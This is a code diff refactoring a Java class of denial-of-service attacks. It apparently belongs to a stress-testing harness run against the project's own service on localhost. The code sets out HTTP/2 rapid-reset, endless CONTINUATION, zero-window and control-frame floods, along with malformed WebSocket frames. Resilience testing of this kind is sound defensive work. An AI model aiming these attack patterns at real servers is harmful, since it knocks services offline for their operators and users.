@@ -32,11 +32,6 @@ final class Attacks {
     private static final int CLOSE = 0x88;
     private static final int PING_FRAME = 0x89;
     private static final byte[] PRIORITY = {0, 0, 0, 0, 16};
-    private static final byte[] CANCEL = {0, 0, 0, 8};
-    private static final int DATA = 0;
-    private static final int PRIORITY_FRAME = 2;
-    private static final int PING = 6;
-    private static final int WINDOW_UPDATE = 8;
     private static final int UNKNOWN_FRAME = 0x42;
 
     private final List<Attack> all = new ArrayList<>();
@@ -168,20 +163,8 @@ final class Attacks {
     }
 
     private void addLive() {
-        plain(
-                SUBSCRIPTIONS,
-                "a malformed message, then ids",
-                siege -> siege.connect(4, 200, wire -> {
-                    upgrade(wire, siege.target().token("mallory"));
-                    wire.frame(FINAL_TEXT, "{}").frame(FINAL_TEXT, "{\"user_ids\":[" + quotedIds(100) + "]}");
-                }));
-        plain(
-                SUBSCRIPTIONS,
-                "a close frame, then ids",
-                siege -> siege.connect(4, 200, wire -> {
-                    upgrade(wire, siege.target().token("mallory"));
-                    wire.frame(CLOSE, "\u0003\u00e8").frame(FINAL_TEXT, "{\"user_ids\":[" + quotedIds(100) + "]}");
-                }));
+        subscribeAfter("a malformed message, then ids", FINAL_TEXT, "{}");
+        subscribeAfter("a close frame, then ids", CLOSE, "\u0003\u00e8");
         plain(
                 SUBSCRIPTIONS,
                 "event streams that are left at once",
@@ -390,33 +373,35 @@ final class Attacks {
                         Http2Connection.HEADERS,
                         Http2Connection.END_HEADERS,
                         stream,
-                        request(
+                        Http2Connection.request(
                                 "PUT",
                                 "/v1/profiles/user/mallory",
                                 "authorization",
                                 "Bearer " + siege.target().token("mallory"),
                                 "content-type",
                                 "application/json"));
-                connection.send(DATA, 0, stream, new byte[600]);
+                connection.send(Http2Connection.DATA, 0, stream, new byte[600]);
             }
             connection.read(frame -> false);
         });
         flood("SETTINGS", connection -> connection.send(Http2Connection.SETTINGS, 0, 0));
-        flood("PING", connection -> connection.send(PING, 0, 0, new byte[8]));
-        flood("PRIORITY", connection -> connection.send(PRIORITY_FRAME, 0, 1, PRIORITY));
-        flood("WINDOW_UPDATE", connection -> connection.send(WINDOW_UPDATE, 0, 0, new byte[] {0, 0, 0, 1}));
+        flood("PING", connection -> connection.send(Http2Connection.PING, 0, 0, new byte[8]));
+        flood("PRIORITY", connection -> connection.send(Http2Connection.PRIORITY, 0, 1, PRIORITY));
+        flood(
+                "WINDOW_UPDATE",
+                connection -> connection.send(Http2Connection.WINDOW_UPDATE, 0, 0, new byte[] {0, 0, 0, 1}));
         flood("frames of unknown types", connection -> connection.send(UNKNOWN_FRAME, 0, 0, new byte[100]));
         http2(FRAMES, "requests that are reset at once", 4, 4, siege -> connection -> {
             for (int stream = 1; siege.goesOn(); stream += 2) {
-                ask(connection, stream, "/docs/swagger-ui-bundle.js");
-                if (!connection.send(Http2Connection.RST_STREAM, 0, stream, CANCEL)) {
+                connection.get(stream, "/docs/swagger-ui-bundle.js");
+                if (!connection.cancel(stream)) {
                     return;
                 }
                 siege.pace(2_000);
             }
         });
         http2(FRAMES, "headers that continue without end", 4, 20, siege -> connection -> {
-            connection.send(Http2Connection.HEADERS, 0, 1, request("GET", "/health"));
+            connection.send(Http2Connection.HEADERS, 0, 1, Http2Connection.request("GET", "/health"));
             while (siege.goesOn() && connection.send(Http2Connection.CONTINUATION, 0, 1)) {
                 siege.pace(2_000);
             }
@@ -433,10 +418,20 @@ final class Attacks {
         });
         http2(COST, "requests without credentials, 100 at a time", 2, 20, siege -> connection -> {
             for (int stream = 1; stream < 200; stream += 2) {
-                ask(connection, stream, "/v1/profiles/user/mallory");
+                connection.get(stream, "/v1/profiles/user/mallory");
             }
             connection.read(frame -> frame.stream() == 199);
         });
+    }
+
+    private void subscribeAfter(String name, int header, String payload) {
+        plain(
+                SUBSCRIPTIONS,
+                name,
+                siege -> siege.connect(4, 200, wire -> {
+                    upgrade(wire, siege.target().token("mallory"));
+                    wire.frame(header, payload).frame(FINAL_TEXT, "{\"user_ids\":[" + quotedIds(100) + "]}");
+                }));
     }
 
     private void plain(String kind, String name, Attack.Method method) {
@@ -470,21 +465,6 @@ final class Attacks {
     @FunctionalInterface
     private interface FrameFlood {
         boolean send(Http2Connection connection) throws Exception;
-    }
-
-    private static void ask(Http2Connection connection, int stream, String path) throws Exception {
-        connection.send(
-                Http2Connection.HEADERS,
-                Http2Connection.END_HEADERS | Http2Connection.END_STREAM,
-                stream,
-                request("GET", path));
-    }
-
-    private static byte[] request(String method, String path, String... more) {
-        List<String> headers = new ArrayList<>(
-                List.of(":method", method, ":scheme", "https", ":authority", "localhost", ":path", path));
-        headers.addAll(List.of(more));
-        return Http2Connection.headers(headers.toArray(String[]::new));
     }
 
     private static String get(String path, String headers) {
@@ -557,14 +537,13 @@ final class Attacks {
 
         @Override
         public byte[] settings() {
-            // SETTINGS_INITIAL_WINDOW_SIZE of 0
-            return new byte[] {0, 4, 0, 0, 0, 0};
+            return Http2Connection.noWindow();
         }
 
         @Override
         public void run(Http2Connection connection) throws Exception {
             for (int stream = 1; stream < 200; stream += 2) {
-                ask(connection, stream, "/docs/swagger-ui-bundle.js");
+                connection.get(stream, "/docs/swagger-ui-bundle.js");
             }
             connection.read(frame -> false);
         }
